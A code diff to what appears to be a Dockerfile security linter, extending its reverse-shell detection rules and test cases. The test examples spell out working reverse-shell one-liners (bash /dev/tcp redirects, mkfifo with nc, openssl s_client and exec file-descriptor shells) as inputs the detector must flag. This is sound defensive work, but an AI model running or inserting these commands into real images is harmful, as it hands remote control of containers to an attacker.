@@ -14,6 +14,9 @@ const SHELL_ON_NETWORK = {
   zh: 'shell 的输入输出经由网络传输，对端即可控制容器。',
 };
 
+const SHELLS = ['sh', 'bash', 'zsh', 'ksh', 'dash', 'ash'];
+const NETWORK = ['/dev/tcp/*', '/dev/udp/*'];
+
 export const REVERSE_SHELLS: readonly Rule[] = [
   {
     id: 'netcat-shell',
@@ -54,6 +57,7 @@ export const REVERSE_SHELLS: readonly Rule[] = [
         { program: ['openssl'], subcommand: ['s_client'] },
       ],
       into: 'interpreter',
+      orBack: true,
       at: COMMANDS_RUN,
     },
     examples: {
@@ -61,9 +65,13 @@ export const REVERSE_SHELLS: readonly Rule[] = [
         'RUN mkfifo /tmp/f; nc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1',
         'CMD ["sh", "-c", "nc -l 4444 | sh"]',
         'RUN telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445',
+        'RUN rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
+        'RUN sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/f',
       ],
       passes: [
         'RUN nc -l 4444 | tar x',
+        'RUN sh -c "echo ruok" | nc zookeeper 2181',
+        'RUN sh /report.sh | nc stats.example 2003',
         'RUN mkfifo /tmp/log && tail -f /tmp/log',
         'RUN echo | openssl s_client -connect x.example:443 | sed -n /BEGIN/p',
       ],
@@ -76,13 +84,22 @@ export const REVERSE_SHELLS: readonly Rule[] = [
     why: SHELL_ON_NETWORK,
     fix: REMOVE_IT,
     match: {
-      kind: 'command',
-      at: COMMANDS_RUN,
-      run: [
+      kind: 'any',
+      of: [
         {
-          program: ['sh', 'bash', 'zsh', 'ksh', 'dash'],
-          redirects: ['/dev/tcp/*', '/dev/udp/*'],
-          unlessOptions: ['-c'],
+          kind: 'command',
+          at: COMMANDS_RUN,
+          run: [{ program: SHELLS, redirects: NETWORK, unlessOptions: ['-c'] }],
+        },
+        { kind: 'piped', from: [{ redirects: NETWORK }], into: 'interpreter', at: COMMANDS_RUN },
+        {
+          kind: 'command',
+          at: COMMANDS_RUN,
+          run: [{ program: ['exec'], redirects: NETWORK }],
+          andAny: [
+            { program: SHELLS, redirects: ['0', '1', '2', '3', '4', '5', '6', '7', '8', '9', '1*', '2*', '&*'] },
+            { program: ['read'] },
+          ],
         },
       ],
     },
@@ -91,12 +108,16 @@ export const REVERSE_SHELLS: readonly Rule[] = [
         'RUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
         `CMD ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]`,
         'RUN /bin/sh < /dev/tcp/10.0.0.1/4444',
+        'RUN exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196',
+        'RUN exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done',
+        'RUN cat < /dev/tcp/10.0.0.1/4444 | sh',
       ],
       passes: [
         'RUN timeout 5 bash -c "</dev/tcp/db/5432"',
         'RUN (echo > /dev/tcp/db/5432) 2>/dev/null',
         'HEALTHCHECK CMD bash -c "exec 3<>/dev/tcp/localhost/80"',
         'RUN bash -i > /dev/null',
+        'RUN exec 3<>/dev/tcp/db/5432 && echo up >&3',
       ],
     },
   },
@@ -150,7 +171,8 @@ export const REVERSE_SHELLS: readonly Rule[] = [
         { program: ['ruby'], words: ['*TCPSocket*exec*sh*', '*TCPSocket*IO.popen*'] },
         { program: ['php'], words: ['*fsockopen*exec*sh*', '*fsockopen*proc_open*sh*'] },
         { program: ['node'], words: ['*net*connect*child_process*sh*', '*child_process*sh*net*connect*'] },
-        { program: ['lua*'], words: ['*socket*connect*io.popen*'] },
+        { program: ['lua*'], words: ['*socket*connect*io.popen*', '*socket*connect*os.execute*'] },
+        { program: ['awk', 'gawk'], words: ['*/inet/tcp/*|&*getline*'] },
       ],
     },
     examples: {
